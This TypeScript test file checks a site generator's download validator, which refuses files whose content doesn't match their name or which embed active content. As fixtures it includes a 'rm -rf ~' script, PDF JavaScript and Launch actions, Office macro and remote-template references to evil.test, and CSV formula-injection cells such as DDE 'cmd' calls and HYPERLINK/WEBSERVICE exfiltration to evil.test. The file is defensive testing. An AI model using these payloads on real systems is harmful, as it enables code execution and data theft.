/** What's in a file to download: it is what its name says, and nothing in it runs. Honest files pass as they are. */

import { deflateSync } from "node:zlib";
import fc from "fast-check";
import { zipSync } from "fflate";
import { describe, expect, test } from "vitest";
import { checkDownload } from "../generator/content/check-download.ts";
import { findOfficeFault } from "../generator/content/office-macros.ts";
import { office, pdf } from "./support/documents.ts";
import { findOnDisk } from "./support/find-problems.ts";
import { brief, fuzzing } from "./support/usual-files.ts";

/** What is said of a file, with advice; undefined for one that's fine. */
async function judge(kind: string, bytes: string | Buffer) {
  const fault = await checkDownload(kind, Buffer.from(bytes));
  if (fault) expect(fault.advice).toMatch(/^[A-Z].+\.$/);
  return fault?.what;
}

const text = (written: string) => Buffer.from(written);
const page = "<< /Type /Page /Contents (Read /JavaScript: The Good Parts) >>";
const catalog = "<< /Type /Catalog /Pages 2 0 R >>";

describe("the bytes of a file", () => {
  test.each([
    ["pdf", "<!DOCTYPE html><script>alert(1)</script>", "a page of the web"],
    ["pdf", "\n <svg xmlns='http://www.w3.org/2000/svg'/>", "a page of the web"],
    ["pdf", `MZ${"\0".repeat(200)}`, "a file of the kind exe"],
    ["pdf", "\u007fELF\u0002\u0001\u0001\0\0\0\0\0\0\0\0\0\u0003\0", "a file of the kind elf"],
    ["pdf", "#!/bin/sh\nrm -rf ~\n", "a script"],
    ["pdf", "\0\u0001\u0002", "damaged"],
    ["pdf", office("docx"), "a file of the kind docx"],
    ["docx", pdf([catalog]), "pdf"],
    ["docx", office("xlsx"), "a file of the kind xlsx"],
    ["docx", Buffer.from(zipSync({ "run.exe": Buffer.from("MZ") })), "a file of the kind zip"],
    ["xlsx", "name,hours\nAna,2\n", "plain text"],
    ["csv", "<html><body>", "a page of the web"],
    ["csv", pdf([catalog]), "pdf"],
    ["csv", `MZ${"\0".repeat(200)}`, "a file of the kind exe"],
    ["ics", "name,hours\n", "plain text"],
    ["svg", "<html><body>", "a page of the web"],
    ["svg", "name,hours\n", "plain text"],
  ])("called %s, and something else: refused (%#)", async (kind, bytes, what) => {
    expect(await judge(kind, bytes)).toContain(`isn't what its name says: it's ${what}`);
  });
  test.each([
    ["svg", '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'],
    ["svg", "<svg>"],
    ["csv", "\uFEFFname\thours\r\nAna\t2\r\n"],
    ["ics", "BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n"],
  ])("called %s, and that: fine (%#)", async (kind, bytes) => {
    expect(await judge(kind, bytes)).toBeUndefined();
  });
  test("are those of a program whatever the rest of it is", async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ minLength: 64 }), async (rest) => {
        const bytes = Buffer.concat([Buffer.from("MZ\0\0"), rest]);
        for (const kind of ["pdf", "docx", "csv", "ics"])
          expect(await judge(kind, bytes)).toBeDefined();
      }),
      fuzzing(50),
    );
  });
});

describe("a PDF that acts", () => {
  const script = "<< /S /JavaScript /JS (app.alert(1)) >>";
  test.each([
    ["a script when it's opened", [`<< /Type /Catalog /OpenAction ${script} >>`], []],
    ["a script without spaces", ["<</Type/Catalog/OpenAction<</S/JavaScript/JS(a())>>>>"], []],
    ["a script that others refer to", [catalog, script], []],
    ["a script among the names", ["<< /Names << /JavaScript 5 0 R >> >>"], []],
    ["a script with a name in numbers", [catalog, "<< /S /J#61va#53cript /JS 7 0 R >>"], []],
    [
      "a script with a name in capital numbers",
      [catalog, "<< /S /#4Aava#53cript /JS 7 0 R >>"],
      [],
    ],
    ["a script behind a comment", [catalog, "<< /S%here\n/JavaScript /JS 7 0 R >>"], []],
    ["a script in a packed object", [catalog], [script]],
    // Everything of the specification that holds a script: ISO 32000-1, sections 12.6.4.13, 12.7.8 and 13.6.
    ["a script of a film", [catalog, "<< /S /Rendition /OP 0 /JS (app.alert(1)) >>"], []],
    ["a script of a film, elsewhere", [catalog, "<</S/Rendition/JS 7 0 R>>"], []],
    ["a script behind a key in numbers", [catalog, "<</Type/Action/#53/JavaScript>>"], []],
    ["a form behind a reference", ["<< /AcroForm <</Fields 3 0 R/XFA 5 0 R>> >>"], []],
    ["a form behind a number", ["<< /AcroForm <</SigFlags -1.0/XFA 5 0 R>> >>"], []],
    ["a form behind a word", ["<< /AcroForm <</NeedAppearances true/XFA 5 0 R>> >>"], []],
    ["a form with scripts", ["<< /Type /Catalog /AcroForm << /XFA 5 0 R >> >>"], []],
    ["a form with scripts, in parts", ["<< /AcroForm <</XFA[(config)5 0 R]>> >>"], []],
    ["a film with scripts", [catalog, "<< /Type /Annot/Subtype/RichMedia>>"], []],
    ["a script behind an address", [catalog, "<</URI(a://b)/S/JavaScript>>"], []],
    ["a script behind names like an address", [catalog, "<</Q:///W/S/JavaScript/A 1>>"], []],
    ["a script of a solid", [catalog, "<< /Type /3D /OnInstantiate 7 0 R >>"], []],
    ["another program", ["<< /OpenAction << /S /Launch /F (cmd.exe) >> >>"], []],
  ])("%s: refused", async (_, objects, packed) => {
    expect(await judge("pdf", pdf(objects, packed))).toMatch(
      /script in it|have a script|another program/,
    );
  });
  test.each([
    ["packed in another way", "/N 1 /First 4 /Filter /ASCII85Decode"],
    ["packed in two ways", "/N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]"],
    ["with names in numbers", "/#4e 1 /F#69rst 4 /Filter /LZWDecode"],
    ["with a string that looks like an object", "/N 1 /First 4 /X (\n1 0 obj) /Filter /Fl"],
    [
      "written as differences",
      "/N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>",
    ],
  ])("objects %s can't be searched: refused", async (_, head) => {
    const bytes = pdf([`<< /Type /ObjStm ${head} >>\nstream\nGar8O\nendstream`]);
    expect(await judge("pdf", bytes)).toMatch(/can't be searched/);
  });
  test("objects that can be unpacked can't be searched as differences, or if they're too many", async () => {
    const flat = (length: number, more = "") => {
      const data = deflateSync(Buffer.alloc(length, "a")).toString("latin1");
      return `<< /N 1 /First 4 /Filter /FlateDecode ${more} >>\nstream\n${data}\nendstream`;
    };
    expect(await judge("pdf", pdf([flat(9, "/DecodeParms << /Predictor 1 >>")]))).toBeUndefined();
    const most = flat(60_000_000);
    for (const objects of [[flat(9, "/DecodeParms << /Predictor 12 >>")], [most, most]])
      expect(await judge("pdf", pdf(objects))).toMatch(/can't be searched/);
  });
  test.each([
    ["opens at a page", [`<< /Type /Catalog /OpenAction [3 0 R /Fit] >>`, page], [page]],
    ["links to a page about scripts", ["<< /S /URI /URI (https://a.example/JavaScript) >>"], []],
    ["has fields and an outline", ["<< /AP << /N 4 0 R >> /First 5 0 R >>", page], [page]],
    [
      "has a photograph behind an outline",
      [
        "<< /First 5 0 R /N 1 >>",
        "<< /Subtype /Image /Alt (A \\) b \\) (c)) /Filter /DCTDecode >>\nstream\nx\nendstream",
      ],
      [],
    ],
    ["has a profile of colors", ["<< /N 3 /Filter /DCTDecode >>\nstream\nx\nendstream"], []],
    ["has objects as they are", ["<< /N 1 /First 4 >>\nstream\n1 0 << >>\nendstream"], []],
  ])("that %s is fine", async (_, objects, packed) => {
    expect(await judge("pdf", pdf(objects, packed))).toBeUndefined();
  });
});

describe("a document of Office", () => {
  test.each(["docx", "xlsx", "pptx"] as const)("%s is fine as it is", async (kind) => {
    const more = { "/xl/printerSettings/printerSettings1.bin": "application/printerSettings" };
    expect(await judge(kind, office(kind, more))).toBeUndefined();
  });
  test.each([
    ["macros", "/word/vbaProject.bin", "application/vnd.ms-office.vbaProject"],
    ["macros under another name", "/word/theme.bin", "application/vnd.ms-office.vbaProject"],
    ["macros of Excel 4", "/xl/macros.xml", "application/vnd.ms-excel.macrosheet+xml"],
    ["a control", "/word/a.xml", "application/vnd.ms-office.activeX+xml"],
  ])("with %s: refused", async (_, part, type) => {
    for (const kind of ["docx", "xlsx", "pptx"] as const)
      expect(await judge(kind, office(kind, { [part]: type }))).toBe(
        "has macros or other programs in it",
      );
  });
  test("may have parts of any size that say nothing about others", () => {
    const parts = { "[Content_Types].xml": text("<Types/>"), "a.png": Buffer.alloc(2_000_000) };
    expect(findOfficeFault(zipSync(parts))).toBeUndefined();
  });
  /** A document with one more part, which says what another part of it refers to. */
  const referring = (attributes: string, name = "word/_rels/settings.xml.rels") => {
    const table = "<Types/>";
    const list = `<Relationships><Relationship Id="rId1" ${attributes}/></Relationships>`;
    return zipSync({ "[Content_Types].xml": text(table), [name]: text(list) });
  };
  const typed = (type: string) =>
    `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"`;
  test.each(["attachedTemplate", "oleObject", "image", "frame", "subDocument", "externalLinkPath"])(
    "that fetches something of the kind %s when it's opened: refused",
    (type) => {
      const target = 'Target="https://evil.test/a.dotm"';
      for (const written of [
        `${typed(type)} ${target} TargetMode="External"`,
        `TargetMode = 'external' ${target} ${typed(type)}`,
        `${typed(type)} ${target} TargetMode="&#69;xternal"`,
      ])
        for (const name of ["word/_rels/settings.xml.rels", "_RELS/.RELS", "a/_rels/b.rels"])
          expect(findOfficeFault(referring(written, name))).toMatchObject({
            what: expect.stringMatching(/^fetches something/),
            advice: expect.stringMatching(/^Put .+\.$/),
          });
    },
  );
  test.each([
    `${typed("hyperlink")} Target="https://a.example/" TargetMode="External"`,
    `${typed("image")} Target="media/a.png"`,
    `${typed("image")} Target="media/a.png" TargetMode="Internal"`,
  ])("that refers to %s is fine", (attributes) => {
    expect(findOfficeFault(referring(attributes))).toBeUndefined();
  });
  test.each([
    ["a program in a package", "application/vnd.openxmlformats-officedocument.oleObject"],
    ["macros, with a letter as a number", "application/vnd.ms-office.vba&#80;roject"],
  ])("with %s: refused", (_, type) => {
    expect(findOfficeFault(office("docx", { "/word/a.bin": type }))?.what).toMatch(/^has macros/);
  });
  test.each([
    ["with two bytes for each letter", (text: string) => Buffer.from(`\uFEFF${text}`, "utf16le")],
    ["with two bytes, and nothing that says so", (text: string) => Buffer.from(text, "utf16le")],
    [
      "with two bytes in the other order",
      (text: string) => Buffer.from(`\uFEFF${text}`, "utf16le").swap16(),
    ],
    [
      "with two bytes in the other order, and nothing that says so",
      (text: string) => Buffer.from(text, "utf16le").swap16(),
    ],
  ])("whose list of parts is written %s: its macros are found", (_, encode) => {
    const list = '<Types><Override ContentType="application/vnd.ms-office.vbaProject"/></Types>';
    const bytes = zipSync({ "[Content_Types].xml": encode(list) });
    expect(findOfficeFault(bytes)?.what).toBe("has macros or other programs in it");
  });
  test.each([
    ["cut off", office("docx").subarray(0, -40)],
    ["without a list of its parts", zipSync({ "a.xml": Buffer.from("<a/>") })],
    [
      "with two lists of its parts",
      zipSync({ "[Content_Types].xml": text("<a/>"), "[content_types].xml": text("<a/>") }),
    ],
    [
      "with a list of its parts that's too long",
      zipSync({ "[Content_Types].xml": text(" ".repeat(1_000_001)) }),
    ],
    [
      "with references that are too long together",
      zipSync({
        "[Content_Types].xml": text("<Types/>"),
        "a.rels": text(" ".repeat(500_000)),
        "b.rels": text(" ".repeat(500_000)),
      }),
    ],
    [
      "with two parts of one name",
      Buffer.from(
        zipSync({
          "[Content_Types].xml": text("<Types/>"),
          "a.rels": text("<a/>"),
          "b.rels": text("<b/>"),
        }),
      ).map((byte, at, all) => (byte === 98 && all[at + 1] === 46 ? 97 : byte)),
    ],
  ])("%s: refused", (_, bytes) => {
    const fault = { what: /damaged/, advice: /^[A-Z].+\.$/ };
    for (const [key, words] of Object.entries(fault))
      expect(findOfficeFault(bytes)?.[key as keyof typeof fault]).toMatch(words);
  });
});

describe("a table", () => {
  test.each([
    '=HYPERLINK("https://evil.test/?a="&A1,"Open")',
    '"=HYPERLINK(""https://evil.test/"",""Open"")"',
    "  =cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1)*WEBSERVICE("https://evil.test/")',
    '+1+HYPERLINK("https://evil.test/")',
    '-A1+HYPERLINK("https://evil.test/")',
    '-HYPERLINK ("https://evil.test/")',
    '=-(1)+IMPORTXML("https://evil.test/","//a")',
    '＝WEBSERVICE("https://evil.test/")',
  ])("with the cell %s: refused at its place", async (cell) => {
    const table = `name,note\nAna,${cell}\n`;
    for (const end of ["\n", "\r\n", ";", "\t"]) {
      const typed = table.replaceAll("\n", end);
      const fault = await checkDownload("csv", Buffer.from(typed));
      expect(fault?.what).toMatch(/has a formula/);
      expect(fault?.advice).toMatch(/^[A-Z].+\.$/);
      expect(fault?.place?.text).toBe(typed);
      const start = typed.indexOf(cell);
      expect(fault?.place?.start).toBe(start);
      expect(typed.slice(start, fault?.place?.end)).toBe(cell.split(/[,;]/)[0]);
    }
  });
  test.each([
    "-12.50",
    "+1 (352) 555-0100",
    "+49 30 555 (office)",
    "- Ana Cruz (captain)",
    "-5 (estimate)",
    "@dmatuf",
    "@dmatuf (Instagram)",
    "=",
    "=== Shifts (Friday) ===",
    "--",
    "-A1",
    "-B12 seat(s)",
    "'=SUM(A1:A3)",
    "a=SUM(b)",
    "5 - 3 (two left)",
  ])("with the cell %s is fine", async (cell) => {
    expect(await judge("csv", `name,note\nAna,${cell}\n"Bo","${cell}"\n`)).toBeUndefined();
  });
  test("in the encoding of Windows is fine", async () => {
    expect(await judge("csv", Buffer.from("name,school\nJosé,Niño\n", "latin1"))).toBeUndefined();
  });
});

test("a check says what's wrong, at the file and in a table at the cell", async () => {
  const problems = await findOnDisk({
    "content/files/guide.pdf": "<html>",
    "content/files/plan.csv": "name,hours\nAna,=SUM(A1:A3)\n",
    "content/files/minutes.docx": office("docx"),
    "content/files/dates.ics": "BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n",
  });
  const refused = problems.filter(({ code }) => code === "file-refused").map(brief);
  expect(refused).toEqual([
    "error file-refused content/files/guide.pdf:1:1",
    "error file-refused content/files/plan.csv:2:5",
  ]);
});
